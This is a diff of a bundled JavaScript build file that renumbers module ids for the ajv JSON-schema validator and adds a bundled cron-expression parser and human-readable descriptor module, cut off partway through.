@@ -54,7 +54,7 @@ Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function (
 Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return codegen_1.nil; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return codegen_1.Name; } }));
 Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return codegen_1.CodeGen; } }));
-var validation_error_1 = __nccwpck_require__(3021);
+var validation_error_1 = __nccwpck_require__(5402);
 Object.defineProperty(exports, "ValidationError", ({ enumerable: true, get: function () { return validation_error_1.default; } }));
 var ref_error_1 = __nccwpck_require__(3162);
 Object.defineProperty(exports, "MissingRefError", ({ enumerable: true, get: function () { return ref_error_1.default; } }));
@@ -231,7 +231,7 @@ exports.regexpCode = regexpCode;
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.or = exports.and = exports.not = exports.CodeGen = exports.operators = exports.varKinds = exports.ValueScopeName = exports.ValueScope = exports.Scope = exports.Name = exports.regexpCode = exports.stringify = exports.getProperty = exports.nil = exports.strConcat = exports.str = exports._ = void 0;
 const code_1 = __nccwpck_require__(567);
-const scope_1 = __nccwpck_require__(7788);
+const scope_1 = __nccwpck_require__(5407);
 var code_2 = __nccwpck_require__(567);
 Object.defineProperty(exports, "_", ({ enumerable: true, get: function () { return code_2._; } }));
 Object.defineProperty(exports, "str", ({ enumerable: true, get: function () { return code_2.str; } }));
@@ -241,7 +241,7 @@ Object.defineProperty(exports, "getProperty", ({ enumerable: true, get: function
 Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function () { return code_2.stringify; } }));
 Object.defineProperty(exports, "regexpCode", ({ enumerable: true, get: function () { return code_2.regexpCode; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return code_2.Name; } }));
-var scope_2 = __nccwpck_require__(7788);
+var scope_2 = __nccwpck_require__(5407);
 Object.defineProperty(exports, "Scope", ({ enumerable: true, get: function () { return scope_2.Scope; } }));
 Object.defineProperty(exports, "ValueScope", ({ enumerable: true, get: function () { return scope_2.ValueScope; } }));
 Object.defineProperty(exports, "ValueScopeName", ({ enumerable: true, get: function () { return scope_2.ValueScopeName; } }));
@@ -927,7 +927,7 @@ function par(x) {
 
 /***/ }),
 
-/***/ 7788:
+/***/ 5407:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -1212,7 +1212,7 @@ function extraErrorProps(cxt, { params, message }, keyValues) {
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.resolveSchema = exports.getCompilingSchema = exports.resolveRef = exports.compileSchema = exports.SchemaEnv = void 0;
 const codegen_1 = __nccwpck_require__(1436);
-const validation_error_1 = __nccwpck_require__(3021);
+const validation_error_1 = __nccwpck_require__(5402);
 const names_1 = __nccwpck_require__(630);
 const resolve_1 = __nccwpck_require__(4090);
 const util_1 = __nccwpck_require__(4464);
@@ -2971,7 +2971,7 @@ Object.defineProperty(exports, "stringify", ({ enumerable: true, get: function (
 Object.defineProperty(exports, "nil", ({ enumerable: true, get: function () { return codegen_1.nil; } }));
 Object.defineProperty(exports, "Name", ({ enumerable: true, get: function () { return codegen_1.Name; } }));
 Object.defineProperty(exports, "CodeGen", ({ enumerable: true, get: function () { return codegen_1.CodeGen; } }));
-const validation_error_1 = __nccwpck_require__(3021);
+const validation_error_1 = __nccwpck_require__(5402);
 const ref_error_1 = __nccwpck_require__(3162);
 const rules_1 = __nccwpck_require__(7353);
 const compile_1 = __nccwpck_require__(2718);
@@ -3671,7 +3671,7 @@ exports["default"] = uri;
 
 /***/ }),
 
-/***/ 3021:
+/***/ 5402:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -4203,7 +4203,7 @@ const anyOf_1 = __nccwpck_require__(9380);
 const oneOf_1 = __nccwpck_require__(2490);
 const allOf_1 = __nccwpck_require__(9205);
 const if_1 = __nccwpck_require__(8584);
-const thenElse_1 = __nccwpck_require__(6829);
+const thenElse_1 = __nccwpck_require__(9210);
 function getApplicator(draft2020 = false) {
     const applicator = [
         // any
@@ -4628,7 +4628,7 @@ exports["default"] = def;
 
 /***/ }),
 
-/***/ 6829:
+/***/ 9210:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -6040,6 +6040,1139 @@ const def = {
 };
 exports["default"] = def;
 //# sourceMappingURL=uniqueItems.js.map
+
+/***/ }),
+
+/***/ 2507:
+/***/ ((module) => {
+
+(function webpackUniversalModuleDefinition(root, factory) {
+	if(true)
+		module.exports = factory();
+	else {}
+})(globalThis, () => {
+return /******/ (() => { // webpackBootstrap
+/******/ 	"use strict";
+/******/ 	var __webpack_modules__ = ({
+
+/***/ 949:
+/***/ ((__unused_webpack_module, exports, __nested_webpack_require_540__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.CronParser = void 0;
+var rangeValidator_1 = __nested_webpack_require_540__(515);
+var CronParser = (function () {
+    function CronParser(expression, dayOfWeekStartIndexZero, monthStartIndexZero) {
+        if (dayOfWeekStartIndexZero === void 0) { dayOfWeekStartIndexZero = true; }
+        if (monthStartIndexZero === void 0) { monthStartIndexZero = false; }
+        this.expression = expression;
+        this.dayOfWeekStartIndexZero = dayOfWeekStartIndexZero;
+        this.monthStartIndexZero = monthStartIndexZero;
+    }
+    CronParser.prototype.parse = function () {
+        var _a;
+        var parsed;
+        var expression = (_a = this.expression) !== null && _a !== void 0 ? _a : '';
+        if (expression === "@reboot") {
+            parsed = ["@reboot", "", "", "", "", "", ""];
+            return parsed;
+        }
+        else if (expression.startsWith('@')) {
+            var special = this.parseSpecial(this.expression);
+            parsed = this.extractParts(special);
+        }
+        else {
+            parsed = this.extractParts(this.expression);
+        }
+        this.normalize(parsed);
+        this.validate(parsed);
+        return parsed;
+    };
+    CronParser.prototype.parseSpecial = function (expression) {
+        var specialExpressions = {
+            '@yearly': '0 0 1 1 *',
+            '@annually': '0 0 1 1 *',
+            '@monthly': '0 0 1 * *',
+            '@weekly': '0 0 * * 0',
+            '@daily': '0 0 * * *',
+            '@midnight': '0 0 * * *',
+            '@hourly': '0 * * * *',
+            '@reboot': '@reboot'
+        };
+        var special = specialExpressions[expression];
+        if (!special) {
+            throw new Error('Unknown special expression.');
+        }
+        return special;
+    };
+    CronParser.prototype.extractParts = function (expression) {
+        if (!this.expression) {
+            throw new Error("cron expression is empty");
+        }
+        var parsed = expression.trim().split(/[ ]+/);
+        for (var i = 0; i < parsed.length; i++) {
+            if (parsed[i].includes(",")) {
+                var arrayElement = parsed[i]
+                    .split(",")
+                    .map(function (item) { return item.trim(); })
+                    .filter(function (item) { return item !== ""; })
+                    .map(function (item) { return (!isNaN(Number(item)) ? Number(item) : item); })
+                    .filter(function (item) { return item !== null && item !== ""; });
+                if (arrayElement.length === 0) {
+                    arrayElement.push("*");
+                }
+                arrayElement.sort(function (a, b) { return (a !== null && b !== null ? a - b : 0); });
+                parsed[i] = arrayElement.map(function (item) { return (item !== null ? item.toString() : ""); }).join(",");
+            }
+        }
+        if (parsed.length < 5) {
+            throw new Error("Expression has only ".concat(parsed.length, " part").concat(parsed.length == 1 ? "" : "s", ". At least 5 parts are required."));
+        }
+        else if (parsed.length == 5) {
+            parsed.unshift("");
+            parsed.push("");
+        }
+        else if (parsed.length == 6) {
+            var isYearWithNoSecondsPart = /\d{4}$/.test(parsed[5]) || parsed[4] == "?" || parsed[2] == "?";
+            if (isYearWithNoSecondsPart) {
+                parsed.unshift("");
+            }
+            else {
+                parsed.push("");
+            }
+        }
+        else if (parsed.length > 7) {
+            throw new Error("Expression has ".concat(parsed.length, " parts; too many!"));
+        }
+        return parsed;
+    };
+    CronParser.prototype.normalize = function (expressionParts) {
+        var _this = this;
+        expressionParts[3] = expressionParts[3].replace("?", "*");
+        expressionParts[5] = expressionParts[5].replace("?", "*");
+        expressionParts[2] = expressionParts[2].replace("?", "*");
+        if (expressionParts[0].indexOf("0/") == 0) {
+            expressionParts[0] = expressionParts[0].replace("0/", "*/");
+        }
+        if (expressionParts[1].indexOf("0/") == 0) {
+            expressionParts[1] = expressionParts[1].replace("0/", "*/");
+        }
+        if (expressionParts[2].indexOf("0/") == 0) {
+            expressionParts[2] = expressionParts[2].replace("0/", "*/");
+        }
+        if (expressionParts[3].indexOf("1/") == 0) {
+            expressionParts[3] = expressionParts[3].replace("1/", "*/");
+        }
+        if (expressionParts[4].indexOf("1/") == 0) {
+            expressionParts[4] = expressionParts[4].replace("1/", "*/");
+        }
+        if (expressionParts[6].indexOf("1/") == 0) {
+            expressionParts[6] = expressionParts[6].replace("1/", "*/");
+        }
+        expressionParts[5] = expressionParts[5].replace(/(^\d)|([^#/\s]\d)/g, function (t) {
+            var dowDigits = t.replace(/\D/, "");
+            var dowDigitsAdjusted = dowDigits;
+            if (_this.dayOfWeekStartIndexZero) {
+                if (dowDigits == "7") {
+                    dowDigitsAdjusted = "0";
+                }
+            }
+            else {
+                dowDigitsAdjusted = (parseInt(dowDigits) - 1).toString();
+            }
+            return t.replace(dowDigits, dowDigitsAdjusted);
+        });
+        if (expressionParts[5] == "L") {
+            expressionParts[5] = "6";
+        }
+        if (expressionParts[3] == "?") {
+            expressionParts[3] = "*";
+        }
+        if (expressionParts[3].indexOf("W") > -1 &&
+            (expressionParts[3].indexOf(",") > -1 || expressionParts[3].indexOf("-") > -1)) {
+            throw new Error("The 'W' character can be specified only when the day-of-month is a single day, not a range or list of days.");
+        }
+        var days = {
+            SUN: 0,
+            MON: 1,
+            TUE: 2,
+            WED: 3,
+            THU: 4,
+            FRI: 5,
+            SAT: 6,
+        };
+        for (var day in days) {
+            expressionParts[5] = expressionParts[5].replace(new RegExp(day, "gi"), days[day].toString());
+        }
+        expressionParts[4] = expressionParts[4].replace(/(^\d{1,2})|([^#/\s]\d{1,2})/g, function (t) {
+            var dowDigits = t.replace(/\D/, "");
+            var dowDigitsAdjusted = dowDigits;
+            if (_this.monthStartIndexZero) {
+                dowDigitsAdjusted = (parseInt(dowDigits) + 1).toString();
+            }
+            return t.replace(dowDigits, dowDigitsAdjusted);
+        });
+        var months = {
+            JAN: 1,
+            FEB: 2,
+            MAR: 3,
+            APR: 4,
+            MAY: 5,
+            JUN: 6,
+            JUL: 7,
+            AUG: 8,
+            SEP: 9,
+            OCT: 10,
+            NOV: 11,
+            DEC: 12,
+        };
+        for (var month in months) {
+            expressionParts[4] = expressionParts[4].replace(new RegExp(month, "gi"), months[month].toString());
+        }
+        if (expressionParts[0] == "0") {
+            expressionParts[0] = "";
+        }
+        if (!/\*|\-|\,|\//.test(expressionParts[2]) &&
+            (/\*|\//.test(expressionParts[1]) || /\*|\//.test(expressionParts[0]))) {
+            expressionParts[2] += "-".concat(expressionParts[2]);
+        }
+        for (var i = 0; i < expressionParts.length; i++) {
+            if (expressionParts[i].indexOf(",") != -1) {
+                expressionParts[i] =
+                    expressionParts[i]
+                        .split(",")
+                        .filter(function (str) { return str !== ""; })
+                        .join(",") || "*";
+            }
+            if (expressionParts[i] == "*/1") {
+                expressionParts[i] = "*";
+            }
+            if (expressionParts[i].indexOf("/") > -1 && !/^\*|\-|\,/.test(expressionParts[i])) {
+                var stepRangeThrough = null;
+                switch (i) {
+                    case 4:
+                        stepRangeThrough = "12";
+                        break;
+                    case 5:
+                        stepRangeThrough = "6";
+                        break;
+                    case 6:
+                        stepRangeThrough = "9999";
+                        break;
+                    default:
+                        stepRangeThrough = null;
+                        break;
+                }
+                if (stepRangeThrough !== null) {
+                    var parts = expressionParts[i].split("/");
+                    expressionParts[i] = "".concat(parts[0], "-").concat(stepRangeThrough, "/").concat(parts[1]);
+                }
+            }
+        }
+    };
+    CronParser.prototype.validate = function (parsed) {
+        var standardCronPartCharacters = "0-9,\\-*\/";
+        this.validateOnlyExpectedCharactersFound(parsed[0], standardCronPartCharacters);
+        this.validateOnlyExpectedCharactersFound(parsed[1], standardCronPartCharacters);
+        this.validateOnlyExpectedCharactersFound(parsed[2], standardCronPartCharacters);
+        this.validateOnlyExpectedCharactersFound(parsed[3], "0-9,\\-*\/LW");
+        this.validateOnlyExpectedCharactersFound(parsed[4], standardCronPartCharacters);
+        this.validateOnlyExpectedCharactersFound(parsed[5], "0-9,\\-*\/L#");
+        this.validateOnlyExpectedCharactersFound(parsed[6], standardCronPartCharacters);
+        this.validateAnyRanges(parsed);
+    };
+    CronParser.prototype.validateAnyRanges = function (parsed) {
+        rangeValidator_1.default.secondRange(parsed[0]);
+        rangeValidator_1.default.minuteRange(parsed[1]);
+        rangeValidator_1.default.hourRange(parsed[2]);
+        rangeValidator_1.default.dayOfMonthRange(parsed[3]);
+        rangeValidator_1.default.monthRange(parsed[4], this.monthStartIndexZero);
+        rangeValidator_1.default.dayOfWeekRange(parsed[5], this.dayOfWeekStartIndexZero);
+    };
+    CronParser.prototype.validateOnlyExpectedCharactersFound = function (cronPart, allowedCharsExpression) {
+        var invalidChars = cronPart.match(new RegExp("[^".concat(allowedCharsExpression, "]+"), "gi"));
+        if (invalidChars && invalidChars.length) {
+            throw new Error("Expression contains invalid values: '".concat(invalidChars.toString(), "'"));
+        }
+    };
+    return CronParser;
+}());
+exports.CronParser = CronParser;
+
+
+/***/ }),
+
+/***/ 333:
+/***/ ((__unused_webpack_module, exports, __nested_webpack_require_10927__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.ExpressionDescriptor = void 0;
+var stringUtilities_1 = __nested_webpack_require_10927__(823);
+var cronParser_1 = __nested_webpack_require_10927__(949);
+var ExpressionDescriptor = (function () {
+    function ExpressionDescriptor(expression, options) {
+        this.expression = expression;
+        this.options = options;
+        this.expressionParts = new Array(5);
+        if (!this.options.locale && ExpressionDescriptor.defaultLocale) {
+            this.options.locale = ExpressionDescriptor.defaultLocale;
+        }
+        if (!ExpressionDescriptor.locales[this.options.locale]) {
+            var fallBackLocale = Object.keys(ExpressionDescriptor.locales)[0];
+            console.warn("Locale '".concat(this.options.locale, "' could not be found; falling back to '").concat(fallBackLocale, "'."));
+            this.options.locale = fallBackLocale;
+        }
+        this.i18n = ExpressionDescriptor.locales[this.options.locale];
+        if (options.use24HourTimeFormat === undefined) {
+            options.use24HourTimeFormat = this.i18n.use24HourTimeFormatByDefault();
+        }
+    }
+    ExpressionDescriptor.toString = function (expression, _a) {
+        var _b = _a === void 0 ? {} : _a, _c = _b.throwExceptionOnParseError, throwExceptionOnParseError = _c === void 0 ? true : _c, _d = _b.verbose, verbose = _d === void 0 ? false : _d, _e = _b.dayOfWeekStartIndexZero, dayOfWeekStartIndexZero = _e === void 0 ? true : _e, _f = _b.monthStartIndexZero, monthStartIndexZero = _f === void 0 ? false : _f, use24HourTimeFormat = _b.use24HourTimeFormat, _g = _b.locale, locale = _g === void 0 ? null : _g;
+        var options = {
+            throwExceptionOnParseError: throwExceptionOnParseError,
+            verbose: verbose,
+            dayOfWeekStartIndexZero: dayOfWeekStartIndexZero,
+            monthStartIndexZero: monthStartIndexZero,
+            use24HourTimeFormat: use24HourTimeFormat,
+            locale: locale,
+        };
+        if (options.tzOffset) {
+            console.warn("'tzOffset' option has been deprecated and is no longer supported.");
+        }
+        var descripter = new ExpressionDescriptor(expression, options);
+        return descripter.getFullDescription();
+    };
+    ExpressionDescriptor.initialize = function (localesLoader, defaultLocale) {
+        if (defaultLocale === void 0) { defaultLocale = "en"; }
+        ExpressionDescriptor.specialCharacters = ["/", "-", ",", "*"];
+        ExpressionDescriptor.defaultLocale = defaultLocale;
+        localesLoader.load(ExpressionDescriptor.locales);
+    };
+    ExpressionDescriptor.prototype.getFullDescription = function () {
+        var _a, _b;
+        var description = "";
+        try {
+            var parser = new cronParser_1.CronParser(this.expression, this.options.dayOfWeekStartIndexZero, this.options.monthStartIndexZero);
+            this.expressionParts = parser.parse();
+            if (this.expressionParts[0] === "@reboot") {
+                return ((_b = (_a = this.i18n).atReboot) === null || _b === void 0 ? void 0 : _b.call(_a)) || "Run once, at startup";
+            }
+            var timeSegment = this.getTimeOfDayDescription();
+            var dayOfMonthDesc = this.getDayOfMonthDescription();
+            var monthDesc = this.getMonthDescription();
+            var dayOfWeekDesc = this.getDayOfWeekDescription();
+            var yearDesc = this.getYearDescription();
+            description += timeSegment + dayOfMonthDesc + dayOfWeekDesc + monthDesc + yearDesc;
+            description = this.transformVerbosity(description, !!this.options.verbose);
+            description = description.charAt(0).toLocaleUpperCase() + description.substr(1);
+        }
+        catch (ex) {
+            if (!this.options.throwExceptionOnParseError) {
+                description = this.i18n.anErrorOccuredWhenGeneratingTheExpressionD();
+            }
+            else {
+                throw "".concat(ex);
+            }
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.getTimeOfDayDescription = function () {
+        var secondsExpression = this.expressionParts[0];
+        var minuteExpression = this.expressionParts[1];
+        var hourExpression = this.expressionParts[2];
+        var description = "";
+        if (!stringUtilities_1.StringUtilities.containsAny(minuteExpression, ExpressionDescriptor.specialCharacters) &&
+            !stringUtilities_1.StringUtilities.containsAny(hourExpression, ExpressionDescriptor.specialCharacters) &&
+            !stringUtilities_1.StringUtilities.containsAny(secondsExpression, ExpressionDescriptor.specialCharacters)) {
+            description += this.i18n.atSpace() + this.formatTime(hourExpression, minuteExpression, secondsExpression);
+        }
+        else if (!secondsExpression &&
+            minuteExpression.indexOf("-") > -1 &&
+            !(minuteExpression.indexOf(",") > -1) &&
+            !(minuteExpression.indexOf("/") > -1) &&
+            !stringUtilities_1.StringUtilities.containsAny(hourExpression, ExpressionDescriptor.specialCharacters)) {
+            var minuteParts = minuteExpression.split("-");
+            description += stringUtilities_1.StringUtilities.format(this.i18n.everyMinuteBetweenX0AndX1(), this.formatTime(hourExpression, minuteParts[0], ""), this.formatTime(hourExpression, minuteParts[1], ""));
+        }
+        else if (!secondsExpression &&
+            hourExpression.indexOf(",") > -1 &&
+            hourExpression.indexOf("-") == -1 &&
+            hourExpression.indexOf("/") == -1 &&
+            !stringUtilities_1.StringUtilities.containsAny(minuteExpression, ExpressionDescriptor.specialCharacters)) {
+            var hourParts = hourExpression.split(",");
+            description += this.i18n.at();
+            for (var i = 0; i < hourParts.length; i++) {
+                description += " ";
+                description += this.formatTime(hourParts[i], minuteExpression, "");
+                if (i < hourParts.length - 2) {
+                    description += ",";
+                }
+                if (i == hourParts.length - 2) {
+                    description += this.i18n.spaceAnd();
+                }
+            }
+        }
+        else {
+            var secondsDescription = this.getSecondsDescription();
+            var minutesDescription = this.getMinutesDescription();
+            var hoursDescription = this.getHoursDescription();
+            description += secondsDescription;
+            if (description && minutesDescription) {
+                description += ", ";
+            }
+            description += minutesDescription;
+            if (minutesDescription === hoursDescription) {
+                return description;
+            }
+            if (description && hoursDescription) {
+                description += ", ";
+            }
+            description += hoursDescription;
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.getSecondsDescription = function () {
+        var _this = this;
+        var description = this.getSegmentDescription(this.expressionParts[0], this.i18n.everySecond(), function (s) {
+            return s;
+        }, function (s) {
+            return stringUtilities_1.StringUtilities.format(_this.i18n.everyX0Seconds(s), s);
+        }, function (s) {
+            return _this.i18n.secondsX0ThroughX1PastTheMinute();
+        }, function (s) {
+            return s == "0"
+                ? ""
+                : parseInt(s) < 20
+                    ? _this.i18n.atX0SecondsPastTheMinute(s)
+                    : _this.i18n.atX0SecondsPastTheMinuteGt20() || _this.i18n.atX0SecondsPastTheMinute(s);
+        });
+        return description;
+    };
+    ExpressionDescriptor.prototype.getMinutesDescription = function () {
+        var _this = this;
+        var secondsExpression = this.expressionParts[0];
+        var hourExpression = this.expressionParts[2];
+        var description = this.getSegmentDescription(this.expressionParts[1], this.i18n.everyMinute(), function (s) {
+            return s;
+        }, function (s) {
+            return stringUtilities_1.StringUtilities.format(_this.i18n.everyX0Minutes(s), s);
+        }, function (s) {
+            return _this.i18n.minutesX0ThroughX1PastTheHour();
+        }, function (s) {
+            try {
+                return s == "0" && hourExpression.indexOf("/") == -1 && secondsExpression == ""
+                    ? _this.i18n.everyHour()
+                    : parseInt(s) < 20
+                        ? _this.i18n.atX0MinutesPastTheHour(s)
+                        : _this.i18n.atX0MinutesPastTheHourGt20() || _this.i18n.atX0MinutesPastTheHour(s);
+            }
+            catch (e) {
+                return _this.i18n.atX0MinutesPastTheHour(s);
+            }
+        });
+        return description;
+    };
+    ExpressionDescriptor.prototype.getHoursDescription = function () {
+        var _this = this;
+        var expression = this.expressionParts[2];
+        var hourIndex = 0;
+        var rangeEndValues = [];
+        expression
+            .split("/")[0]
+            .split(",")
+            .forEach(function (range) {
+            var rangeParts = range.split("-");
+            if (rangeParts.length === 2) {
+                rangeEndValues.push({ value: rangeParts[1], index: hourIndex + 1 });
+            }
+            hourIndex += rangeParts.length;
+        });
+        var evaluationIndex = 0;
+        var description = this.getSegmentDescription(expression, this.i18n.everyHour(), function (s) {
+            var match = rangeEndValues.find(function (r) { return r.value === s && r.index === evaluationIndex; });
+            var isRangeEndWithNonZeroMinute = match && _this.expressionParts[1] !== "0";
+            evaluationIndex++;
+            return isRangeEndWithNonZeroMinute ? _this.formatTime(s, "59", "") : _this.formatTime(s, "0", "");
+        }, function (s) {
+            return stringUtilities_1.StringUtilities.format(_this.i18n.everyX0Hours(s), s);
+        }, function (s) {
+            return _this.i18n.betweenX0AndX1();
+        }, function (s) {
+            return _this.i18n.atX0();
+        });
+        return description;
+    };
+    ExpressionDescriptor.prototype.getDayOfWeekDescription = function () {
+        var _this = this;
+        var daysOfWeekNames = this.i18n.daysOfTheWeek();
+        var description = null;
+        if (this.expressionParts[5] == "*") {
+            description = "";
+        }
+        else {
+            description = this.getSegmentDescription(this.expressionParts[5], this.i18n.commaEveryDay(), function (s, form) {
+                var exp = s;
+                if (s.indexOf("#") > -1) {
+                    exp = s.substring(0, s.indexOf("#"));
+                }
+                else if (s.indexOf("L") > -1) {
+                    exp = exp.replace("L", "");
+                }
+                var parsedExp = parseInt(exp);
+                var description = _this.i18n.daysOfTheWeekInCase
+                    ? _this.i18n.daysOfTheWeekInCase(form)[parsedExp]
+                    : daysOfWeekNames[parsedExp];
+                if (s.indexOf("#") > -1) {
+                    var dayOfWeekOfMonthDescription = null;
+                    var dayOfWeekOfMonthNumber = s.substring(s.indexOf("#") + 1);
+                    var dayOfWeekNumber = s.substring(0, s.indexOf("#"));
+                    switch (dayOfWeekOfMonthNumber) {
+                        case "1":
+                            dayOfWeekOfMonthDescription = _this.i18n.first(dayOfWeekNumber);
+                            break;
+                        case "2":
+                            dayOfWeekOfMonthDescription = _this.i18n.second(dayOfWeekNumber);
+                            break;
+                        case "3":
+                            dayOfWeekOfMonthDescription = _this.i18n.third(dayOfWeekNumber);
+                            break;
+                        case "4":
+                            dayOfWeekOfMonthDescription = _this.i18n.fourth(dayOfWeekNumber);
+                            break;
+                        case "5":
+                            dayOfWeekOfMonthDescription = _this.i18n.fifth(dayOfWeekNumber);
+                            break;
+                    }
+                    description = dayOfWeekOfMonthDescription + " " + description;
+                }
+                return description;
+            }, function (s) {
+                if (parseInt(s) == 1) {
+                    return "";
+                }
+                else {
+                    return stringUtilities_1.StringUtilities.format(_this.i18n.commaEveryX0DaysOfTheWeek(s), s);
+                }
+            }, function (s) {
+                var beginFrom = s.substring(0, s.indexOf("-"));
+                var domSpecified = _this.expressionParts[3] != "*";
+                return domSpecified ? _this.i18n.commaAndX0ThroughX1(beginFrom) : _this.i18n.commaX0ThroughX1(beginFrom);
+            }, function (s) {
+                var format = null;
+                if (s.indexOf("#") > -1) {
+                    var dayOfWeekOfMonthNumber = s.substring(s.indexOf("#") + 1);
+                    var dayOfWeek = s.substring(0, s.indexOf("#"));
+                    format = _this.i18n.commaOnThe(dayOfWeekOfMonthNumber, dayOfWeek).trim() + _this.i18n.spaceX0OfTheMonth();
+                }
+                else if (s.indexOf("L") > -1) {
+                    format = _this.i18n.commaOnTheLastX0OfTheMonth(s.replace("L", ""));
+                }
+                else {
+                    var domSpecified = _this.expressionParts[3] != "*";
+                    format = domSpecified ? _this.i18n.commaAndOnX0() : _this.i18n.commaOnlyOnX0(s);
+                }
+                return format;
+            });
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.getMonthDescription = function () {
+        var _this = this;
+        var monthNames = this.i18n.monthsOfTheYear();
+        var description = this.getSegmentDescription(this.expressionParts[4], "", function (s, form) {
+            return form && _this.i18n.monthsOfTheYearInCase
+                ? _this.i18n.monthsOfTheYearInCase(form)[parseInt(s) - 1]
+                : monthNames[parseInt(s) - 1];
+        }, function (s) {
+            if (parseInt(s) == 1) {
+                return "";
+            }
+            else {
+                return stringUtilities_1.StringUtilities.format(_this.i18n.commaEveryX0Months(s), s);
+            }
+        }, function (s) {
+            return _this.i18n.commaMonthX0ThroughMonthX1() || _this.i18n.commaX0ThroughX1();
+        }, function (s) {
+            return _this.i18n.commaOnlyInMonthX0 ? _this.i18n.commaOnlyInMonthX0() : _this.i18n.commaOnlyInX0();
+        });
+        return description;
+    };
+    ExpressionDescriptor.prototype.getDayOfMonthDescription = function () {
+        var _this = this;
+        var description = null;
+        var expression = this.expressionParts[3];
+        switch (expression) {
+            case "L":
+                description = this.i18n.commaOnTheLastDayOfTheMonth();
+                break;
+            case "WL":
+            case "LW":
+                description = this.i18n.commaOnTheLastWeekdayOfTheMonth();
+                break;
+            default:
+                var weekDayNumberMatches = expression.match(/(\d{1,2}W)|(W\d{1,2})/);
+                if (weekDayNumberMatches) {
+                    var dayNumber = parseInt(weekDayNumberMatches[0].replace("W", ""));
+                    var dayString = dayNumber == 1
+                        ? this.i18n.firstWeekday()
+                        : stringUtilities_1.StringUtilities.format(this.i18n.weekdayNearestDayX0(), dayNumber.toString());
+                    description = stringUtilities_1.StringUtilities.format(this.i18n.commaOnTheX0OfTheMonth(), dayString);
+                    break;
+                }
+                else {
+                    var lastDayOffSetMatches = expression.match(/L-(\d{1,2})/);
+                    if (lastDayOffSetMatches) {
+                        var offSetDays = lastDayOffSetMatches[1];
+                        description = stringUtilities_1.StringUtilities.format(this.i18n.commaDaysBeforeTheLastDayOfTheMonth(offSetDays), offSetDays);
+                        break;
+                    }
+                    else if (expression == "*" && this.expressionParts[5] != "*") {
+                        return "";
+                    }
+                    else {
+                        description = this.getSegmentDescription(expression, this.i18n.commaEveryDay(), function (s) {
+                            return s == "L"
+                                ? _this.i18n.lastDay()
+                                : _this.i18n.dayX0
+                                    ? stringUtilities_1.StringUtilities.format(_this.i18n.dayX0(), s)
+                                    : s;
+                        }, function (s) {
+                            return s == "1" ? _this.i18n.commaEveryDay() : _this.i18n.commaEveryX0Days(s);
+                        }, function (s) {
+                            return _this.i18n.commaBetweenDayX0AndX1OfTheMonth(s);
+                        }, function (s) {
+                            return _this.i18n.commaOnDayX0OfTheMonth(s);
+                        });
+                    }
+                    break;
+                }
+        }
+        return description;
+    };
+    ExpressionDescriptor.prototype.getYearDescription = function () {
+        var _this = this;
+        var description = this.getSegmentDescription(this.expressionParts[6], "", function (s) {
+            return /^\d+$/.test(s) ? new Date(parseInt(s), 1).getFullYear().toString() : s;
+        }, function (s) {
+            return stringUtilities_1.StringUtilities.format(_this.i18n.commaEveryX0Years(s), s);
+        }, function (s) {
+            return _this.i18n.commaYearX0ThroughYearX1() || _this.i18n.commaX0ThroughX1();
+        }, function (s) {
+            return _this.i18n.commaOnlyInYearX0 ? _this.i18n.commaOnlyInYearX0() : _this.i18n.commaOnlyInX0();
+        });
+        return description;
+    };
+    ExpressionDescriptor.prototype.getSegmentDescription = function (expression, allDescription, getSingleItemDescription, getIncrementDescriptionFormat, getRangeDescriptionFormat, getDescriptionFormat) {
+        var description = null;
+        var doesExpressionContainIncrement = expression.indexOf("/") > -1;
+        var doesExpressionContainRange = expression.indexOf("-") > -1;
+        var doesExpressionContainMultipleValues = expression.indexOf(",") > -1;
+        if (!expression) {
+            description = "";
+        }
+        else if (expression === "*") {
+            description = allDescription;
+        }
+        else if (!doesExpressionContainIncrement && !doesExpressionContainRange && !doesExpressionContainMultipleValues) {
+            description = stringUtilities_1.StringUtilities.format(getDescriptionFormat(expression), getSingleItemDescription(expression));
+        }
+        else if (doesExpressionContainMultipleValues) {
+            var segments = expression.split(",");
+            var descriptionContent = "";
+            for (var i = 0; i < segments.length; i++) {
+                if (i > 0 && segments.length > 2) {
+                    descriptionContent += ",";
+                    if (i < segments.length - 1) {
+                        descriptionContent += " ";
+                    }
+                }
+                if (i > 0 && segments.length > 1 && (i == segments.length - 1 || segments.length == 2)) {
+                    descriptionContent += "".concat(this.i18n.spaceAnd(), " ");
+                }
+                if (segments[i].indexOf("/") > -1 || segments[i].indexOf("-") > -1) {
+                    var isSegmentRangeWithoutIncrement = segments[i].indexOf("-") > -1 && segments[i].indexOf("/") == -1;
+                    var currentDescriptionContent = this.getSegmentDescription(segments[i], allDescription, getSingleItemDescription, getIncrementDescriptionFormat, isSegmentRangeWithoutIncrement ? this.i18n.commaX0ThroughX1 : getRangeDescriptionFormat, getDescriptionFormat);
+                    if (isSegmentRangeWithoutIncrement) {
+                        currentDescriptionContent = currentDescriptionContent.replace(", ", "");
+                    }
+                    descriptionContent += currentDescriptionContent;
+                }
+                else if (!doesExpressionContainIncrement) {
+                    descriptionContent += getSingleItemDescription(segments[i]);
+                }
+                else {
+                    descriptionContent += this.getSegmentDescription(segments[i], allDescription, getSingleItemDescription, getIncrementDescriptionFormat, getRangeDescriptionFormat, getDescriptionFormat);
+                }
+            }
+            if (!doesExpressionContainIncrement) {
+                description = stringUtilities_1.StringUtilities.format(getDescriptionFormat(expression), descriptionContent);
+            }
+            else {
+                description = descriptionContent;
+            }
+        }
+        else if (doesExpressionContainIncrement) {
+            var segments = expression.split("/");
+            description = stringUtilities_1.StringUtilities.format(getIncrementDescriptionFormat(segments[1]), segments[1]);
